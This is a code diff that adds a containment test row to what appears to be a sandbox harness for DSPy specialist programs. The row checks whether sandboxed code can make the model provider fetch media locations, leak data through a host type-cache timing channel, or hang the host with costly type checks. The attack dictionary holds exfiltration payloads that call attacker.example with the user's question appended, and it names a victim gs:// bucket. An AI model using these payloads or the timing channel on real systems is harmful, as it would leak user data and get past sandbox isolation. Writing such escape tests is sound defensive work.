@@ -17,6 +17,8 @@ reached the LM or its prompt, or a request made the host log more than LOG_BUDGE
 from __future__ import annotations
 
 import logging
+import statistics
+import time as time_mod
 import warnings
 from pathlib import Path
 from typing import Any
@@ -386,4 +388,140 @@ def _end_to_end(src: str, name: str, pool: SandboxPool, meter: _LogMeter, script
 
 
 def shape_rows() -> list[FamilyRow]:
-    return [shapes_raw_row(), shapes_end_to_end_row()]
+    return [shapes_raw_row(), shapes_end_to_end_row(), media_and_type_row()]
+
+
+# ------------------------------------------------------------------ media, host type caches, check cost
+MEDIA = '''
+class Solver(dspy.Module):
+    def __init__(self):
+        super().__init__()
+        self.look = dspy.Predict("photo: dspy.Image, doc: Optional[dspy.File], question -> answer")
+
+    def forward(self, question):
+        return dspy.Prediction(answer=self.look(photo=PHOTO, doc=DOC, question=question).answer)
+'''
+PIXEL = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kg"
+         "AAAABJRU5ErkJggg==")
+MEDIA_ATTACKS = {
+    "an image URL carrying the request to a web server": ('{"url": "https://attacker.example/c?d=" + question}',
+                                                          "None"),
+    "a gs:// image of the account's bucket": ('{"url": "gs://victim-bucket/labels.png"}', "None"),
+    "a provider's uploaded file as an image URL": ('{"url": "https://generativelanguage.googleapis.com/v1beta/'
+                                                   'files/abc"}', "None"),
+    "a File whose data is a URL": (repr(PIXEL), '{"file_data": "https://attacker.example/f.pdf", "filename": "f"}'),
+}
+
+TYPE_TIMING = '''import datetime
+
+class Solver(dspy.Module):
+    def forward(self, question, names):
+        times = {}
+        for n in names:
+            p = dspy.Predict("x: dspy.Code['" + n + "'], l: dspy.Code['" + n + "'], 1 -> y")   # (never parses)
+            t0 = datetime.datetime.now()
+            try:
+                p(x="a")
+            except Exception:
+                pass
+            times[n] = (datetime.datetime.now() - t0).total_seconds()     # (once: a second try hits its own)
+        return dspy.Prediction(answer="t", times=times)
+'''
+
+CHECK_COST = '''
+class Solver(dspy.Module):
+    def forward(self, question):
+        alts = ["list[Literal[%d,%s,41]]" % (100 + i, ",".join(str(v) for v in range(10, 40))) for i in range(35)]
+        p = dspy.Predict("x: " + "|".join(alts) + " -> y")
+        value = [41] * 85000 + [99]
+        for _ in range(20):
+            try:
+                p(x=value)
+            except dspy.HostError:
+                pass
+        return dspy.Prediction(answer="done")
+'''
+
+
+def _media_attack(photo: str, doc: str, pool: SandboxPool, engine_cls) -> tuple[str, str]:
+    engine = engine_cls(lambda call: {"slot": "1"} if "slot" in call.output_fields else {"answer": "42"},
+                        model="scripted/actor")
+    lm = dspy.LM("scripted/actor", engine=engine, cache=False, num_retries=0)
+    src = MEDIA.replace("PHOTO", photo).replace("DOC", doc)
+    lib = Library.empty(2).with_slot(1, Slot().activated("all", src, "fast"))
+    program = RoutedProgram(dspy.Predict("question -> answer"), lib, fast_lm=lm, deep_lm=lm, sandbox=pool)
+    try:
+        with dspy.context(lm=lm):
+            program(question="patient John Smith")
+    except Exception:  # noqa: BLE001 - a refused specialist fails its row: what matters is what reached the LM
+        pass
+    located = [p for req in engine.requests for m in req.messages for p in (m.parts or ())
+               if "Text" not in type(p).__name__ and "://" in repr(p)]     # media by location, not inline data
+    if located:
+        return "escaped", f"the LM request carried a {type(located[0]).__name__} naming a location"
+    return "rejected", f"{len(engine.requests)} LM call(s), none with media by location"
+
+
+def _type_timing(pool: SandboxPool, scripted_lm) -> tuple[str, str]:
+    """Request A names the even languages; request B, in a fresh worker, times all: if the ones A named come
+    back much faster than the ones it did not (a host cache keyed by the type), B read A's bits."""
+    lm = scripted_lm(lambda call: {"slot": "1"} if "slot" in call.output_fields else {"answer": "42", "y": "1"})
+    names = [f"k{i}" for i in range(16)]
+
+    def run(which: list[str]) -> dict:
+        lib = Library.empty(2).with_slot(1, Slot().activated("all", TYPE_TIMING, "fast"))
+        program = RoutedProgram(dspy.Predict("question, names -> answer"), lib, fast_lm=lm, deep_lm=lm,
+                                sandbox=pool)
+        with dspy.context(lm=lm):
+            return dict(program(question="q", names=which).times)
+
+    run(names[::2])
+    times = run(names)
+    written = statistics.median(times[n] for n in names[2::2])       # (k0 and k1 carry the first call's noise)
+    unwritten = statistics.median(times[n] for n in names[3::2])
+    if written < 0.6 * unwritten:
+        return "escaped", (f"the types request A named came back in {written * 1e6:.0f} us (median), the others in "
+                           f"{unwritten * 1e6:.0f} us")
+    return "contained", (f"the types request A named time like the others ({written * 1e6:.0f} vs "
+                         f"{unwritten * 1e6:.0f} us)")
+
+
+def _check_cost(pool: SandboxPool) -> tuple[str, str]:
+    from dspy_adaptive.sandbox.compiler import compile_program
+
+    program = compile_program(CHECK_COST).program
+    t0 = time_mod.perf_counter()
+    try:
+        pool.run(program, {"question": "q"}, FakeBridge())
+    except Exception:  # noqa: BLE001 - a timeout is the containment
+        pass
+    took = time_mod.perf_counter() - t0
+    if took > pool.call_timeout + 1.0:
+        return "host-hung", f"the call took {took:.1f}s against its {pool.call_timeout:g}s deadline"
+    return "contained", f"20 costly checks ended in {took:.2f}s (deadline {pool.call_timeout:g}s)"
+
+
+def media_and_type_row() -> FamilyRow:
+    """Media locations a specialist names (the provider would fetch them), host caches keyed by the types a
+    request names (a timing channel from one request to the next), and type checks whose cost the specialist
+    picks -- policy on, end to end."""
+    from dspy_adaptive.testing import ScriptedEngine as _Engine
+    from dspy_adaptive.testing import scripted_lm
+
+    class Recording(_Engine):
+        def __init__(self, respond, **kw):
+            super().__init__(respond, **kw)
+            self.requests: list = []
+
+        def complete(self, request):
+            self.requests.append(request)
+            return super().complete(request)
+
+    row = FamilyRow("media locations, request-named types and check cost (policy on, end to end)")
+    with warnings.catch_warnings(), SandboxPool(max_workers=1, timeout=3) as pool:
+        warnings.simplefilter("ignore")
+        for name, (photo, doc) in MEDIA_ATTACKS.items():
+            row.add(name, lambda p=photo, d=doc: _media_attack(p, d, pool, Recording))
+        row.add("timing a host cache of the types an earlier request named", lambda: _type_timing(pool, scripted_lm))
+        row.add("type checks costing the host seconds per predictor call", lambda: _check_cost(pool))
+    return row
